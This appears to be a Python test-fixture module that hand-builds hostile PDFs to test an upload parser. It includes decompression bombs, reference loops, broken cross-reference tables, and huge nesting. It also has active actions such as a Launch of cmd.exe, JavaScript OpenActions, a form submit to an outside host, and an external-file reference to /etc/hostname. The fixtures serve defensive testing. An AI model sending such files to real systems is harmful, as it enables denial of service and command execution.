"""Hostile PDFs, made the same way every time: by hand, because the libraries that write PDFs refuse to write these."""

import zlib
from collections.abc import Iterator, Mapping
from io import BytesIO

from pikepdf import Encryption, Pdf

from tests import uploads

NAMES = ["Contents", "Resources", "Font", "XObject", "MediaBox", "Parent", "Kids", "Annots", "Length", "Filter"]
TEXT = b"BT /F1 12 Tf 72 720 Td (Verslag) Tj ET"
BASE: Mapping[int, bytes] = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
    3: b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(TEXT), TEXT),
    5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
}


def stream(content: bytes, entries: bytes = b"", length: int | None = None) -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (
        len(content) if length is None else length,
        entries,
        content,
    )


def flate(content: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(content, 9), entries + b" /Filter /FlateDecode")


def raw(changes: Mapping[int, bytes | None], trailer: bytes = b"", tail: bytes | None = None) -> bytes:
    """A PDF of the base objects with changes; `trailer` adds entries, `tail` stands in the place of table and trailer."""
    objects = {number: each for number, each in {**BASE, **changes}.items() if each is not None}
    body, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number in sorted(objects):
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    at, size = len(body), max(objects) + 1
    if tail is not None:
        return bytes(body) + tail.replace(b"@", b"%d" % at)
    rows = b"".join(b"%010d %05d %c \n" % ((places[n], 0, ord("n")) if n in places else (0, 65535, ord("f")))
                    for n in range(size))  # fmt: skip
    return bytes(body) + b"xref\n0 %d\n%strailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, rows, size, trailer, at,
    )  # fmt: skip


def page(more: bytes = b"", resources: bytes = b"/Font << /F1 5 0 R >>") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << %s >> %s >>" % (resources, more)


def _loops() -> Iterator[tuple[str, bytes]]:
    yield "kids-of-themselves", raw({2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"})
    yield (
        "kids-of-each-other",
        raw({2: b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>", 6: b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R >>"}),
    )
    yield "a-page-twice", raw({2: b"<< /Type /Pages /Kids [3 0 R 3 0 R 3 0 R] /Count 3 /MediaBox [0 0 9 9] >>"})
    yield "parent-of-itself", raw({3: b"<< /Type /Page /Parent 3 0 R /Contents 4 0 R >>"})
    yield "catalogue-of-itself", raw({1: b"<< /Type /Catalog /Pages 1 0 R >>"})
    double = {
        10 + n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R %d 0 R] /Count %d >>"
        % (9 + n, 11 + n, 11 + n, 2 ** (30 - n))
        for n in range(30)
    }
    yield "two-to-the-thirtieth-pages", raw({2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>", **double, 40: page()})
    deep = {
        10 + n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (9 + n, 11 + n) for n in range(3_000)
    }
    yield "a-tree-of-three-thousand", raw({2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>", **deep, 3_010: page()})
    for number in range(3, 6):
        yield f"object-{number}-is-itself", raw({number: b"%d 0 R" % number})
    yield "references-in-a-ring", raw({4: b"6 0 R", 6: b"7 0 R", 7: b"4 0 R"})
    for name in NAMES:
        yield (
            f"{name.lower()}-in-a-ring",
            raw({3: page(b"/%s 6 0 R" % name.encode()), 6: b"<< /%s 6 0 R >>" % name.encode()}),
        )
    yield "length-of-itself", raw({4: b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"})
    form = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> /Font << /F1 5 0 R >> >>"
    )
    drawn = {4: stream(b"/X Do"), 3: page(resources=b"/XObject << /X 6 0 R >>")}
    yield "a-form-that-draws-itself", raw({**drawn, 6: stream(b"/X Do", form % 6)})
    yield "forms-that-draw-each-other", raw({**drawn, 6: stream(b"/X Do", form % 7), 7: stream(b"/X Do", form % 6)})
    laughs = {6 + n: stream(b"/X Do " * 10 + TEXT, form % (7 + n)) for n in range(12)}
    yield "ten-to-the-twelfth-forms", raw({**drawn, **laughs, 18: stream(TEXT, form % 18)})
    yield (
        "an-outline-in-a-ring",
        raw(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
                6: b"<< /First 7 0 R /Last 7 0 R >>",
                7: b"<< /Title (a) /Parent 6 0 R /Next 7 0 R /First 7 0 R >>",
            }
        ),
    )
    yield (
        "names-in-a-ring",
        raw({1: b"<< /Type /Catalog /Pages 2 0 R /Names << /Dests 6 0 R >> >>", 6: b"<< /Kids [6 0 R] >>"}),
    )
    yield (
        "fields-in-a-ring",
        raw(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /NeedAppearances true >> >>",
                3: page(b"/Annots [6 0 R]"),
                6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 9 9] /Parent 6 0 R /Kids [6 0 R] /DA (/F1 9 Tf) >>",
            }
        ),
    )
    yield (
        "tags-in-a-ring",
        raw(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 6 0 R >>",
                6: b"<< /Type /StructTreeRoot /K 6 0 R /ParentTree 6 0 R >>",
            }
        ),
    )
    yield (
        "masks-in-a-ring",
        raw(
            {
                3: page(resources=b"/ExtGState << /G 6 0 R >>"),
                6: b"<< /SMask << /S /Alpha /G 7 0 R >> >>",
                7: stream(
                    b"/G gs",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /ExtGState << /G 6 0 R >> >>",
                ),
            }
        ),
    )


def _tables() -> Iterator[tuple[str, bytes]]:
    good = raw({})
    for name, tail in {
        "points-nowhere": b"startxref\n99999999\n%%EOF\n", "points-below-zero": b"startxref\n-5\n%%EOF\n",
        "points-at-itself": b"startxref\n@\n%%EOF\n", "is-absent": b"", "has-no-root": b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 >>\nstartxref\n@\n%%EOF\n",
        "goes-back-to-itself": b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev @ >>\nstartxref\n@\n%%EOF\n",
        "is-a-mixture": b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /XRefStm @ >>\nstartxref\n@\n%%EOF\n",
        "has-a-billion-rows": b"xref\n0 1000000000\ntrailer\n<< /Size 1000000000 /Root 1 0 R >>\nstartxref\n@\n%%EOF\n",
        "starts-at-a-billion": b"xref\n999999999 1\n0000000015 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n@\n%%EOF\n",
    }.items():  # fmt: skip
        yield name, raw({}, tail=tail)
    for shift in (1, 7, 1_000_000):
        yield (
            f"is-{shift}-off",
            good.replace(b"00000 n", b"00001 n").replace(b"%010d" % good.index(b"1 0 obj"), b"%010d" % shift),
        )
    for widths in (b"[1 4 2]", b"[8 8 8]", b"[0 0 0]", b"[1 2000000000 1]", b"[-1 2 1]"):
        rows = stream(b"\x01" * 60, b"/Type /XRef /Size 6 /Root 1 0 R /W " + widths)
        yield (
            f"of-{widths.decode().strip('[]').replace(' ', '-')}",
            raw({}, tail=b"9 0 obj\n" + rows + b"\nendobj\nstartxref\n@\n%%EOF\n"),
        )
    rows = stream(b"\x01" * 60, b"/Type /XRef /Size 6 /Root 1 0 R /W [1 2 1] /Index [0 2000000000]")
    yield "of-two-billion", raw({}, tail=b"9 0 obj\n" + rows + b"\nendobj\nstartxref\n@\n%%EOF\n")
    for count, first in ((10**9, 10), (100, -5), (5, 10**9), (-1, 0)):
        packed = stream(b"1 0 2 10 << >>", b"/Type /ObjStm /N %d /First %d" % (count, first))
        yield f"packs-{count}-from-{first}", raw({6: packed, 3: None}, b"/Info 6 0 R")
    yield "packs-in-a-ring", raw({6: stream(b"1 0", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")})
    yield "size-lies", raw({}, b"/Size 2147483647")


def _lengths() -> Iterator[tuple[str, bytes]]:
    for length in (0, -1, 10, 2**31 - 1, 2**31, 2**63, 10**30):
        yield str(length), raw({4: stream(TEXT, length=length)})
    for entry in (b"/Length (x)", b"/Length [1 2]", b"/Length null", b"/Length 9 0 R", b"/Length << >>"):
        yield (
            entry.decode().split()[1].strip("([<") or "dictionary",
            raw({4: b"<< " + entry + b" >>\nstream\n" + TEXT + b"\nendstream"}),
        )
    yield "without-an-end", raw({4: b"<< /Length 9 >>\nstream\n" + TEXT})


def _nesting() -> Iterator[tuple[str, bytes]]:
    for depth in (400, 20_000, 200_000):
        yield f"arrays-{depth}", raw({6: b"[" * depth + b"]" * depth, 3: page(b"/X 6 0 R")})
        yield f"dictionaries-{depth}", raw({6: b"<< /A " * depth + b"0" + b" >>" * depth, 3: page(b"/X 6 0 R")})
        yield f"open-arrays-{depth}", raw({6: b"[" * depth})
        yield f"strings-{depth}", raw({6: b"(" * depth + b")" * depth, 3: page(b"/X 6 0 R")})
        yield f"written-arrays-{depth}", raw({4: flate(b"[" * depth + b"]" * depth + b" TJ " + TEXT)})
        yield f"states-{depth}", raw({4: flate(b"q " * depth + TEXT)})
        yield f"marks-{depth}", raw({4: flate(b"/P <</A (b)>> BDC " * depth + TEXT)})


def _filters() -> Iterator[tuple[str, bytes]]:
    for name in (b"FlateDecode", b"LZWDecode", b"ASCIIHexDecode", b"ASCII85Decode", b"RunLengthDecode", b"DCTDecode",
                 b"JPXDecode", b"JBIG2Decode", b"CCITTFaxDecode", b"Crypt", b"Onbekend"):  # fmt: skip
        yield f"{name.decode().lower()}-of-nothing", raw({4: stream(b"\x00\xff" * 20, b"/Filter /" + name)})
    yield "a-thousand-at-once", raw({4: stream(zlib.compress(TEXT), b"/Filter [" + b"/FlateDecode " * 1_000 + b"]")})
    hexed = TEXT
    for _ in range(12):
        hexed = hexed.hex().encode() + b">"
    yield "twelve-times-hexadecimal", raw({4: stream(hexed, b"/Filter [" + b"/ASCIIHexDecode " * 12 + b"]")})
    for columns in (0, -1, 10**9, 2**31 - 1):
        given = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns %d /Colors 4 >>" % columns
        yield f"rows-of-{columns}", raw({4: stream(zlib.compress(b"\x02" * 5_000), given)})
    yield "of-another-file", raw({4: stream(TEXT, b"/F (/etc/hostname) /FFilter /FlateDecode")})
    yield "in-a-ring", raw({4: stream(TEXT, b"/Filter 6 0 R"), 6: b"[6 0 R]"})


def _bombs() -> Iterator[tuple[str, bytes]]:
    pressed, given = _zeros(1_000_000_000), b"/Filter /FlateDecode"
    form = given + b" /Type /XObject /Subtype /Form /BBox [0 0 9 9]"
    rows = given + b" /Type /XRef /Size 6 /Root 1 0 R /W [1 2 1]"
    drawn = {4: stream(b"/X Do"), 3: page(resources=b"/XObject << /X 6 0 R >>")}
    mapped = BASE[5].replace(b" >>", b" /ToUnicode 6 0 R >>")
    about = {1: b"<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>"}
    yield "page", raw({4: stream(pressed, given)})
    yield "page-just-small-enough", raw({4: stream(_zeros(90_000_000), given)})
    yield "form", raw({**drawn, 6: stream(pressed, form)})
    yield "letters", raw({5: mapped, 6: stream(pressed, given)})
    yield "letters-just-small-enough", raw({5: mapped, 6: stream(_zeros(90_000_000), given)})
    yield "about", raw({**about, 6: stream(pressed, given + b" /Type /Metadata /Subtype /XML")})
    yield "objects", raw({6: stream(pressed, given + b" /Type /ObjStm /N 1 /First 4")})
    yield "table", raw({}, tail=b"9 0 obj\n" + stream(pressed, rows) + b"\nendobj\nstartxref\n@\n%%EOF\n")
    thrice = zlib.compress(zlib.compress(_zeros(1_000_000_000), 9), 9)
    yield "thrice", raw({4: stream(thrice, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]")})
    yield "in-runs", raw({4: stream(b"\x81\x00" * 2_000_000, b"/Filter /RunLengthDecode")})
    yield (
        "in-runs-within",
        raw({4: stream(zlib.compress(b"\x81\x00" * 5_000_000, 9), b"/Filter [/FlateDecode /RunLengthDecode]")}),
    )
    yield "in-lzw", raw({4: stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 100_000, b"/Filter /LZWDecode")})
    yield "in-ascii85", raw({4: stream(b"z" * 5_000_000 + b"~>", b"/Filter /ASCII85Decode")})
    many = {10 + n: stream(_zeros(30_000_000), b"/Filter /FlateDecode") for n in range(20)}
    yield "twenty-small-ones", raw({**many, 3: page(b"/X [" + b" ".join(b"%d 0 R" % n for n in many) + b"]")})


def _zeros(size: int) -> bytes:
    """That many zeros (a multiple of a million), compressed, without ever making them: one million over and over."""
    press = zlib.compressobj(9, wbits=-15)
    million = press.compress(bytes(1_000_000)) + press.flush(zlib.Z_FULL_FLUSH)
    check = ((size % 65521) << 16) | 1
    return b"\x78\xda" + million * (size // 1_000_000) + press.flush() + check.to_bytes(4)


def _fonts() -> Iterator[tuple[str, bytes]]:
    maps = {
        "a-range-of-everything": b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange",
        "a-range-backwards": b"1 beginbfrange <FF> <00> <0041> endbfrange",
        "codes-of-everything": b"1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange",
        "a-million-letters": b"1000000 beginbfchar " + b"<01> <0041> " * 1_000_000 + b"endbfchar",
        "a-letter-that-is-a-book": b"1 beginbfchar <56> <" + b"0041" * 1_000_000 + b"> endbfchar",
        "an-open-range": b"1 beginbfrange <00> <FF> [" + b"<0041> " * 100_000,
        "itself": b"/F usecmap " * 10_000,
    }
    for name, told in maps.items():
        yield name, raw({5: BASE[5].replace(b" >>", b" /ToUnicode 6 0 R >>"), 6: flate(told)})
    composite = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding %s /DescendantFonts [7 0 R] >>"
    for name, widths in {
        "widths-to-a-billion": b"[0 1000000000 500]",
        "widths-below-zero": b"[-5 [1 2 3]]",
        "widths-of-names": b"[/A /B]",
    }.items():
        yield (
            name,
            raw(
                {
                    5: composite % b"/Identity-H",
                    7: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /W %s >>" % widths,
                }
            ),
        )
    yield "descends-from-itself", raw({5: composite % b"5 0 R", 7: b"5 0 R"})
    yield (
        "encoded-to-a-billion",
        raw({5: b"<< /Type /Font /Subtype /Type1 /BaseFont /A /Encoding << /Differences [1000000000 /a /b] >> >>"}),
    )
    yield "encoded-by-itself", raw({5: b"<< /Type /Font /Subtype /Type1 /BaseFont /A /Encoding 5 0 R >>"})
    yield (
        "first-to-last",
        raw({5: b"<< /Type /Font /Subtype /Type1 /BaseFont /A /FirstChar 0 /LastChar 2000000000 /Widths [0] >>"}),
    )
    yield (
        "signs-that-write",
        raw(
            {
                5: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [86 /a] >> /Resources << /Font << /F1 5 0 R >> >> >>",
                6: stream(TEXT),
            }
        ),
    )


def _pictures() -> Iterator[tuple[str, bytes]]:
    drawn = {4: stream(b"/X Do"), 3: page(resources=b"/XObject << /X 6 0 R >>")}
    kind = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceRGB /BitsPerComponent 8 /Width %d /Height %d "
    for width, height in ((10**9, 10**9), (0, 0), (-1, 5), (60_000, 60_000), (2**31, 1)):
        yield f"{width}-by-{height}", raw({**drawn, 6: stream(b"\x00" * 50, kind % (width, height))})
        yield (
            f"jpeg-{width}-by-{height}",
            raw({**drawn, 6: stream(uploads.jpeg(), kind % (width, height) + b"/Filter /DCTDecode")}),
        )
    yield "a-mask-of-itself", raw({**drawn, 6: stream(b"\x00" * 50, kind % (4, 4) + b"/SMask 6 0 R")})
    yield (
        "of-a-billion-zeros",
        raw({**drawn, 6: stream(_zeros(1_000_000_000), kind % (30_000, 30_000) + b"/Filter /FlateDecode")}),
    )
    yield (
        "colours-in-a-ring",
        raw(
            {
                **drawn,
                6: stream(b"\x00", b"/Subtype /Image /Width 1 /Height 1 /ColorSpace 7 0 R"),
                7: b"[/Indexed 7 0 R 255 7 0 R]",
            }
        ),
    )
    yield "inline-and-huge", raw({4: stream(b"BI /W 1000000000 /H 1000000000 /CS /RGB /BPC 8 ID \x00 EI " + TEXT)})
    yield "inline-without-an-end", raw({4: stream(b"BI /W 9 /H 9 ID " + b"\x00" * 100_000)})
    yield "jpeg-cut-short", raw({**drawn, 6: stream(uploads.jpeg()[:60], kind % (24, 16) + b"/Filter /DCTDecode")})
    yield (
        "jpeg2000-of-boxes",
        raw(
            {
                **drawn,
                6: stream(
                    b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00\x00\x00\x00jp2h" * 9,
                    kind % (4, 4) + b"/Filter /JPXDecode",
                ),
            }
        ),
    )


def _sizes() -> Iterator[tuple[str, bytes]]:
    pages = {10 + n: page() for n in range(5_000)}
    yield (
        "five-thousand-pages",
        raw({2: b"<< /Type /Pages /Count 5000 /Kids [" + b" ".join(b"%d 0 R" % n for n in pages) + b"] >>", **pages}),
    )
    yield "a-hundred-thousand-objects", raw({10 + n: b"null" for n in range(100_001)})
    yield "a-million-words", raw({4: flate(b"BT /F1 9 Tf " + b"(Verslag ) Tj 0 -9 Td " * 1_000_000 + b"ET")})
    yield "a-long-row", raw({4: flate(b"BT /F1 9 Tf [" + b"(a) -9 " * 1_000_000 + b"] TJ ET")})
    yield "two-million-curves", raw({4: flate(b"1 2 3 4 5 6 c " * 2_000_000 + b"f " + TEXT)})
    yield (
        "a-hundred-thousand-notes",
        raw(
            {
                3: page(b"/Annots [" + b"6 0 R " * 100_000 + b"]"),
                6: b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /AP << /N 7 0 R >> >>",
                7: stream(TEXT, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"),
            }
        ),
    )
    yield "numbers-without-end", raw({4: flate(b"9" * 5_000_000 + b" w " + TEXT)})
    yield "a-name-without-end", raw({4: flate(b"/" + b"a" * 5_000_000 + b" gs " + TEXT)})
    yield "a-page-as-large-as-a-land", raw({3: page(b"/MediaBox [0 0 1e300 1e300] /UserUnit 1e300 /Rotate 91")})
    yield "text-as-large-as-a-land", raw({4: stream(b"BT /F1 1e300 Tf 1e300 0 0 1e300 1e300 1e300 Tm (Verslag) Tj ET")})


def _doing() -> Iterator[tuple[str, bytes]]:
    deeds = {
        "script": b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "hidden-script": b"<< /#53 /J#61vaScript /#4aS (1) >>",
        "launch": b"<< /S /Launch /F (cmd.exe) >>", "submit": b"<< /S /SubmitForm /F (https://elders.example) >>",
        "import": b"<< /S /ImportData /F (a.fdf) >>", "embedded": b"<< /S /GoToE /D [0] >>", "film": b"<< /S /Rendition >>",
    }  # fmt: skip
    for name, deed in deeds.items():
        yield f"{name}-on-opening", raw({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % deed})
        yield f"{name}-on-a-page", raw({3: page(b"/AA << /O %s >>" % deed)})
        yield (
            f"{name}-in-a-link",
            raw(
                {
                    3: page(
                        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /Next [6 0 R] >> >>]"
                    ),
                    6: deed,
                }
            ),
        )
    for kind in ("FileAttachment", "Movie", "RichMedia", "Screen", "Sound", "3D"):
        yield (
            f"{kind.lower()}-note",
            raw({3: page(b"/Annots [<< /Type /Annot /Subtype /%s /Rect [0 0 9 9] >>]" % kind.encode())}),
        )
    yield (
        "a-form-of-xml",
        raw({1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>", 6: stream(b"<xdp/>")}),
    )
    yield (
        "a-file-inside",
        raw(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /AF [<< /EF << /F 6 0 R >> >>] >>",
                6: stream(b"MZ", b"/Type /EmbeddedFile"),
            }
        ),
    )


def _others() -> Iterator[tuple[str, bytes]]:
    good = uploads.pdf("Verslag over de leerling")
    for part in range(1, 10):
        yield f"cut-at-{part}0-percent", good[: len(good) * part // 10]
    yield "a-zip-behind-it", good + uploads.word()
    yield "a-page-of-the-web-before-it", b"<html><script>1</script>\n" + good
    yield "a-program", b"MZ" + good
    yield "only-a-head", b"%PDF-1.7\n%%EOF"
    yield "of-zeros", b"%PDF-1.7\n" + bytes(1_000_000)
    yield "of-a-million-heads", b"%PDF-1.7\n" * 1_000_000
    yield "of-a-million-objects-begun", b"%PDF-1.7\n" + b"1 0 obj\n" * 1_000_000
    yield "of-a-million-streams-begun", b"%PDF-1.7\n" + b"1 0 obj <<>> stream\n" * 400_000
    for strength in (3, 4, 6):
        target = BytesIO()
        with Pdf.open(BytesIO(good)) as document:
            document.save(
                target,
                encryption=Encryption(
                    owner="o", user="u" if strength == 6 else "", R=strength, aes=strength > 3, metadata=strength > 3
                ),
            )
        yield f"locked-{strength}", target.getvalue()


PDF_FAMILIES = {
    "pdf-loops": _loops,
    "pdf-tables": _tables,
    "pdf-lengths": _lengths,
    "pdf-nesting": _nesting,
    "pdf-filters": _filters,
    "pdf-bombs": _bombs,
    "pdf-fonts": _fonts,
    "pdf-pictures": _pictures,
    "pdf-sizes": _sizes,
    "pdf-doing": _doing,
    "pdf-others": _others,
}
